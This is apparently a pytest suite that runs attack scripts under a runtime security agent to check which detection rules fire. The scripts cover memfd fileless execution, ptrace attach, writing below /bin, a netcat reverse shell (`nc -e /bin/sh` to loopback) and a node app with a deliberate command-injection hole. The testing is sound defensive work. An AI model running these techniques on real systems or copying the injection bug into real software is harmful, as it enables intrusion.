"""More attack scripts under the real agent with the three upstream rule files: fileless
execution from a memfd, ptrace attach, a write below /bin, a netcat reverse shell, a shell
spawned by a node web app. Each asserts the upstream rule that really fires for it."""

from __future__ import annotations

import shutil
import subprocess
import sys
import textwrap
import urllib.request
import uuid
from pathlib import Path

import pytest

from tests.runtime.agent.conftest import AgentRun, Listener, running_agent
from tests.runtime.helpers import ALL_FILES, rule_files

PYTHON = sys.executable
CONTAINER = ("--container-name", "shop", "--image", "registry.example:5000/shop/app:1.4")
MEMFD_PROLOGUE = """\
import os
fd = os.memfd_create("payload")
os.write(fd, open("/bin/true", "rb").read())
"""


def by_rule(run: AgentRun, rule: str) -> list[dict[str, object]]:
    return [a["output_fields"] for a in run.alerts if a["rule"] == rule]


@pytest.mark.parametrize(
    ("exec_code", "call"),
    [
        ("os.execve(fd, ['payload'], {})", "execveat"),  # fexecve: execveat(fd, "", EMPTY_PATH)
        ("os.execv(f'/proc/self/fd/{fd}', ['payload'])", "execve"),
    ],
    ids=["fexecve", "proc-self-fd"],
)
def test_fileless_execution_from_a_memfd(agent, exec_code: str, call: str) -> None:
    run: AgentRun = agent([PYTHON, "-c", MEMFD_PROLOGUE + exec_code])
    assert run.code == 0, run.stderr
    [fields] = by_rule(run, "Fileless execution via memfd_create")
    assert fields["evt.type"] == call
    assert fields["proc.exepath"] == "/memfd:payload"
    assert "EXE_FROM_MEMFD" in str(fields["evt.arg.flags"])


def test_ptrace_attach_to_another_process(agent) -> None:
    """The traced attacker attaches to a process outside the agent (its own children are
    already traced, so the kernel would refuse a second tracer)."""
    victim = subprocess.Popen(["/bin/sleep", "60"])
    attach = textwrap.dedent(
        f"""\
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        assert libc.ptrace(16, {victim.pid}, None, None) == 0, ctypes.get_errno()  # ATTACH
        os.waitpid({victim.pid}, 0)  # not our child: waitpid on a tracee works all the same
        assert libc.ptrace(17, {victim.pid}, None, None) == 0  # DETACH
        """
    )
    try:
        run: AgentRun = agent([PYTHON, "-c", attach])
    finally:
        victim.kill()
        victim.wait()
    assert run.code == 0, run.stderr
    attached = by_rule(run, "PTRACE attached to process")
    assert attached, run.rules()
    assert {f["evt.type"] for f in attached} == {"ptrace"}
    assert {f["proc.name"] for f in attached} == {Path(PYTHON).name}
    assert "PTRACE anti-debug attempt" not in run.rules()


def test_writing_below_bin(agent) -> None:
    target = Path("/bin") / f"mamori-agent-test-{uuid.uuid4().hex[:8]}"
    try:
        run: AgentRun = agent([PYTHON, "-c", f"open({str(target)!r}, 'w').write('x')"])
    finally:
        target.unlink(missing_ok=True)
    assert run.code == 0, run.stderr
    [fields] = by_rule(run, "Write below binary dir")
    # /bin is a link to usr/bin on Debian 12: the descriptor's real path is what Falco shows
    assert fields["fd.name"] == str(target.resolve())
    assert fields["proc.name"] == Path(PYTHON).name and fields["evt.type"] == "openat"


@pytest.mark.parametrize(
    ("flags", "expected"),
    [
        (
            (),
            {
                "Netcat/Socat Remote Code Execution on Host",
                "Launch Suspicious Network Tool on Host",
            },
        ),
        (
            CONTAINER,
            {
                "Netcat Remote Code Execution in Container",
                "Launch Suspicious Network Tool in Container",
                "Redirect STDOUT/STDIN to Network Connection in Container",
            },
        ),
    ],
    ids=["host", "container"],
)
def test_netcat_reverse_shell(agent, flags: tuple[str, ...], expected: set[str]) -> None:
    """`nc -e /bin/sh` to a loopback listener that drives the shell it gets."""
    nc = shutil.which("nc")
    assert nc and Path(nc).resolve().name == "nc.traditional", "needs netcat-traditional's nc"
    with Listener(b"echo pwned-$((6*7))\nexit\n") as listener:
        run: AgentRun = agent([nc, "-e", "/bin/sh", "127.0.0.1", str(listener.port)], *flags)
    assert listener.received == b"pwned-42\n"
    assert run.code == 0, run.stderr
    assert run.rules() == expected
    for alert in run.alerts:
        assert alert["output_fields"]["proc.name"] == "nc"
    if flags:
        [redirect, *_] = by_rule(run, "Redirect STDOUT/STDIN to Network Connection in Container")
        assert redirect["fd.rport"] == listener.port
        assert str(redirect["fd.name"]).endswith(f"->127.0.0.1:{listener.port}")


NODE_APP = """\
const http = require('node:http');
const { execSync } = require('node:child_process');
// A command-injection bug: the query string reaches a shell.
const server = http.createServer((req, res) => {
  const cmd = decodeURIComponent(new URL(req.url, 'http://x').searchParams.get('cmd'));
  res.end(execSync(cmd, { encoding: 'utf8' }));
  server.close();
});
server.listen(0, '127.0.0.1', () => console.log(server.address().port));
"""


@pytest.mark.parametrize("tuned", [False, True], ids=["upstream", "node-opted-in"])
def test_shell_spawned_by_a_node_web_app(tmp_path: Path, tuned: bool) -> None:
    """node is in none of the upstream web-server lists and `possibly_node_in_container`
    is `never_true`: with the files unmodified a shell spawned by a node app raises
    nothing. Redefining that macro, as the upstream comment invites, makes `Run shell
    untrusted` fire."""
    app = tmp_path / "app.js"
    app.write_text(NODE_APP)
    rules = rule_files(*ALL_FILES)
    if tuned:
        opt_in = tmp_path / "node.yaml"
        opt_in.write_text("- macro: possibly_node_in_container\n  condition: (proc.pname=node)\n")
        rules.append(opt_in)
    with running_agent(tmp_path / "agent", ["node", str(app)], *CONTAINER, rules=rules) as agent:
        port = agent.line()
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/?cmd=id%20-u", timeout=30) as reply:
            assert reply.read() == b"0\n"
        run = agent.finish()
    assert run.code == 0, run.stderr
    if not tuned:
        assert run.alerts == []
        return
    [fields] = by_rule(run, "Run shell untrusted")
    assert fields["proc.pname"] == "node" and fields["proc.cmdline"] == "sh -c id -u"
